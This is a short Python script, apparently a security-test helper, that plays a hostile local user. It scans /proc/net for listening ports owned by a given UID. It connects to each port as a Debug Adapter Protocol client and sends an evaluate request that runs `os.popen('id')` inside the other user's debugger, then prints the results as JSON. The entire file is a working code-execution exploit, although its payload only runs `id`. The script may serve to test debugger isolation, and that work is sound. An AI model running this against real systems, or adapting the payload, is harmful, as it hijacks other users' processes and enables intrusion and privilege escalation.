"""What a hostile user runs: speak to every port of a user's as to a debugger, and run code there.

debug_attacker.py UID: prints one line of JSON, what the command `id` said for each port.
"""

import contextlib
import json
import re
import socket
import sys
import time
from pathlib import Path

LISTENS = "0A"
RUN_ID = {"expression": "__import__('os').popen('id').read()", "context": "repl"}
REQUESTS = (
    ("initialize", {"clientID": "m", "adapterID": "python", "pathFormat": "path"}),
    ("attach", {"connect": {}}),
    ("configurationDone", {}),
    ("evaluate", RUN_ID),
)


def ports(uid):
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENS and int(fields[7]) == uid:
                yield int(fields[1].rsplit(":", 1)[1], 16)


def attacked(port):
    """Everything that is said in answer to the four requests."""
    said = b""
    with (
        contextlib.suppress(OSError),
        socket.create_connection(("127.0.0.1", port), 5) as connection,
    ):
        for number, (command, arguments) in enumerate(REQUESTS, 1):
            request = {"type": "request", "seq": number, "command": command, "arguments": arguments}
            body = json.dumps(request).encode()
            connection.sendall(b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
            connection.settimeout(1)
            deadline = time.monotonic() + (8 if command == "evaluate" else 2)
            while time.monotonic() < deadline and b"uid=" not in said:
                with contextlib.suppress(TimeoutError):
                    said += connection.recv(65536)
    return "".join(re.findall(r"uid=\d+\(\w+\)", said.decode("latin-1")))


def main():
    uid = int(sys.argv[1])
    print(json.dumps({port: attacked(port) for port in ports(uid)}))


main()
